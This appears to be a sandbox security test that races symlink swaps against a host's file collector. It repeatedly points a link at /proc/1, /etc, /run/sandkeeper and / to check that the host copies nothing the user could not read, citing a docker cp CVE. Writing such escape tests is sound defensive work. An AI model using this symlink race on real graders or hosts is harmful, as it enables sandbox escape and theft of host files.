# Group: races
# Tries: have the host collect files that are not in the folder, by links that come and go.
# Idea: graders that fetch artifacts follow links into the host; see docker cp CVE-2019-14271.
# Outcome: nothing is collected that the user could not read.
# Host: collects
import os
import time

from attack import held, host

os.makedirs("/home/user/target", exist_ok=True)
end = time.monotonic() + 0.7
while time.monotonic() < end:
    for target in ("/proc/1", "/etc", os.path.dirname(host("FILE")), "/run/sandkeeper", "/"):
        os.symlink(target, "/home/user/link")
        os.replace("/home/user/link", "/home/user/target/folder")
        os.unlink("/home/user/target/folder")
        os.makedirs("/home/user/target/folder", exist_ok=True)
        with open("/home/user/target/folder/mine", "w") as file:
            file.write("mine")
        os.unlink("/home/user/target/folder/mine")
        os.rmdir("/home/user/target/folder")
held("swapped")
